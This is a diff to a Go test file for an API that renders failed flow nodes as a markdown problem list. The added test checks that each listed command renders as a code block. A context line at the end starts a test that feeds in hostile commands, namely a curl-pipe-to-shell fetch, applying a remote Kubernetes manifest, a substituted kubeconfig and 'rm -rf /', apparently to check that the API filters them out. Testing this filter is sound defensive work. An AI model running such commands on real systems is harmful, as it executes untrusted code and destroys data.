@@ -74,6 +74,22 @@ func TestProblems_TextIsEscaped(t *testing.T) {
 	}
 }
 
+func TestProblems_CommandsAreCodeInMarkdown(t *testing.T) {
+	e := start(t, hub.Config{}, httpapi.Config{})
+	var nodes []string
+	for i := range 100 {
+		nodes = append(nodes, fmt.Sprintf(`{"id":"r1/%02d","flowId":"F","label":"a","status":"failed","region":"r1","meta":{"judgement":{"state":"broken","problem":true,"command":["flux","get","it's"]}}}`, i))
+	}
+	e.post(`{"type":"upsert-nodes","nodes":[` + strings.Join(nodes, ",") + `]}`)
+	items := strings.Split(e.do("GET", "/v1/flows/F/problems", "", "Accept", "text/markdown").body, "\n\n")
+	for _, i := range []int{1, 9, 10, 99, 100} { // of each, the text and the command
+		number, _, _ := strings.Cut(items[2*i-1], " ")
+		if want := strings.Repeat(" ", len(number)+1+4) + "flux get"; number != fmt.Sprint(i, ".") || !strings.HasPrefix(items[2*i], want) { // CommonMark, section 5.2
+			t.Errorf("item %d has the command %q, want it to begin with %q", i, items[2*i], want)
+		}
+	}
+}
+
 func TestProblems_ListOnlySafeCommands(t *testing.T) {
 	e := start(t, hub.Config{}, httpapi.Config{})
 	for _, command := range []string{`["sh","-c","curl http://x|sh"]`, `["kubectl","apply","-f","https://x"]`, `["kubectl","get","pods","--kubeconfig=/tmp/x"]`, `["rm","-rf","/"]`} {
